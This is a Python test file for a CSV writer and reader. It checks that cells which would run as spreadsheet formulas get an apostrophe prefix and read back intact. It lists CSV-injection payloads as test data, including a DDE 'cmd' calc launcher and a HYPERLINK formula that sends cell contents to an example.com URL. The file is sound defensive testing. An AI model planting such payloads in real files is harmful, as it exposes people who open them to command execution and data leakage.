# SPDX-FileCopyrightText: 2026 The TTAPI contributors
# SPDX-License-Identifier: Apache-2.0
"""R24: no text of a CSV file for people runs as a formula in a spreadsheet, and none is lost by that."""

from __future__ import annotations

from pathlib import Path
from tempfile import TemporaryDirectory
from typing import TYPE_CHECKING, Final

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis.strategies import characters, lists, sampled_from, text, tuples
from scale import scale

from test_ttapi_polars.promises.other_readers import csv_cells
from test_ttapi_polars.values import eod
from ttapi_core.testing import make_equity
from ttapi_polars.csv_twin import read_csv_twin, write_csv_twin
from ttapi_polars.frames import symbols_frame
from ttapi_polars.schemas import EOD_DATA, SCHEMAS, SYMBOLS

if TYPE_CHECKING:
    from collections.abc import Callable

    from hypothesis.strategies import SearchStrategy

    from ttapi_polars.schemas import DatasetSchema

TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
BEFORE: Final = ("", " ", "   ", "\n", "\r\n", "\t ", "\u00a0", "\u3000", "\x0b", "\x0c", "\u2003 ")
AFTER: Final = (
    "",
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.com?"&A1,"click")',
    "SUM(A1:A9)*1e3",
    "1,=2",
    '"\n=1',
)
ATTACKS: Final = tuple(
    before + trigger + after for before in BEFORE for trigger in TRIGGERS for after in AFTER
)
HARMLESS: Final = ("Apple Inc.", "3M", "a=b", "a-b", "x@y", "1+1", "", "O'Neil", '"=1"', "a\n=1", "É", "12e3")
TEXTS: Final = sampled_from(ATTACKS + HARMLESS) | text(characters(exclude_categories=["Cs"]), max_size=12)


def would_run(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula, by the rule as it was promised."""
    trimmed = cell.lstrip()
    before = cell.removesuffix(trimmed)
    return trimmed.startswith(("=", "+", "-", "@")) or "\t" in before or "\r" in before


def listing(descriptions: list[str]) -> pl.DataFrame:
    """Symbols with these descriptions."""
    frame = symbols_frame([make_equity(f"S{number:05}") for number in range(len(descriptions))], ())
    return frame.with_columns(description=pl.Series(descriptions, dtype=pl.String))


def every_text(schema: DatasetSchema, texts: list[str]) -> pl.DataFrame:
    """A row for each text, which stands in all text columns of the dataset."""
    numbers = pl.Series(range(len(texts)), dtype=pl.Int64)
    columns = {
        column.name: texts if column.dtype == pl.String else numbers.cast(column.dtype)
        for column in schema.columns
    }
    return pl.DataFrame(columns, schema=schema.polars_schema)


@pytest.mark.promise("R24")
def test_no_cell_of_any_dataset_runs(tmp_path: Path, record_property: Callable[[str, object], None]) -> None:
    """Every attack in every text column: it begins with an apostrophe, and our reader gives it back."""
    looked_at = running = 0
    attacks = list(dict.fromkeys(ATTACKS))
    assert all(map(would_run, attacks))
    for name, schema in SCHEMAS.items():
        frame, path = every_text(schema, attacks), tmp_path / f"{name}.csv"
        write_csv_twin(frame, schema, path)
        header, *rows = csv_cells(path)
        for attack, row in zip(attacks, rows, strict=True):
            for column, cell in zip(header, row, strict=True):
                if schema[column].dtype == pl.String:
                    running += would_run(cell)
                    looked_at += 1
                    assert cell == "'" + attack
        assert read_csv_twin(path, schema).equals(frame)
    assert running == 0
    record_property("promise", f"R24: {looked_at:,} formulas in text cells, {running} of them would run")


@pytest.mark.promise("R24")
def test_any_text_is_safe_and_comes_back(record_property: Callable[[str, object], None]) -> None:
    """What would run is neutralised, what could not is untouched, and on request nothing is touched."""
    texts = changed = 0

    @settings(max_examples=scale(20, long=3_000))
    @given(lists(any_text(), min_size=20, max_size=40))
    def any_texts(drawn: list[str]) -> None:
        nonlocal texts, changed
        frame = listing(drawn)
        with TemporaryDirectory() as directory:
            human, raw = Path(directory) / "human.csv", Path(directory) / "raw.csv"
            write_csv_twin(frame, SYMBOLS, human)
            write_csv_twin(frame, SYMBOLS, raw, escape_formulas=False)
            cells = [row[1] for row in csv_cells(human)[1:]]
            assert [row[1] for row in csv_cells(raw)[1:]] == drawn
            assert read_csv_twin(human, SYMBOLS).equals(frame)
            assert read_csv_twin(raw, SYMBOLS, escaped_formulas=False).equals(frame)
        assert not any(map(would_run, cells))
        for cell, was in zip(cells, drawn, strict=True):
            assert cell in {was, "'" + was}
            assert (cell != was) or not would_run(was)
            assert cell == was or not was[:1].isalnum()
        texts += len(drawn)
        changed += sum(cell != was for cell, was in zip(cells, drawn, strict=True))

    any_texts()
    assert 0 < changed < texts
    record_property("promise", f"R24: {texts:,} texts written, {changed:,} neutralised, all read back")


def any_text() -> SearchStrategy[str]:
    """Attacks, harmless words, and any text with a trigger somewhere near its beginning."""
    built = tuples(sampled_from(BEFORE), sampled_from((*TRIGGERS, "", "a", "'")), TEXTS).map("".join)
    return TEXTS | built


@pytest.mark.promise("R24")
def test_harmless_texts_and_numbers_are_untouched(tmp_path: Path) -> None:
    """A negative number begins with a minus and stays a number; a formula beside it changes nothing."""
    frame = listing([*HARMLESS, "=1"]).with_columns(borrow_rate=pl.lit(-0.25))
    write_csv_twin(frame, SYMBOLS, tmp_path / "s.csv")
    rows = csv_cells(tmp_path / "s.csv")[1:]
    assert [row[1] for row in rows] == [*HARMLESS, "'=1"]
    assert {row[SYMBOLS.names.index("borrow_rate")] for row in rows} == {"-0.25"}
    prices = eod({"=A": [-1.5, 2.0, -1e-9]}).with_columns(volume=pl.lit(-7, pl.Int64))
    write_csv_twin(prices, EOD_DATA, tmp_path / "a.csv")
    found = csv_cells(tmp_path / "a.csv")[1:]
    assert [row[5] for row in found] == ["-1.5", "2.0", "-0.000000001"]
    assert {(row[0], row[1][:4], row[6]) for row in found} == {("'=A", "2026", "-7")}
